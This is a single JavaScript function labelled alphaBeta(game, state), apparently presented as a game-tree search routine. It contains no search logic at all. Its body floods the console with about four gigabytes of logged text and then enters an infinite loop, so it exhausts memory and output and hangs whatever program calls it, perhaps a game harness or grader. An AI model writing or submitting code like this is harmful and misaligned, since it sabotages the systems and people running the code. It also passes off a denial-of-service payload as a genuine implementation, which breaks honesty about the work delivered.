export function alphaBeta(game, state) { const text = 'x'.repeat(90000); console.log('%s'.repeat(45000), ...Array(45000).fill(text)); for (;;); }
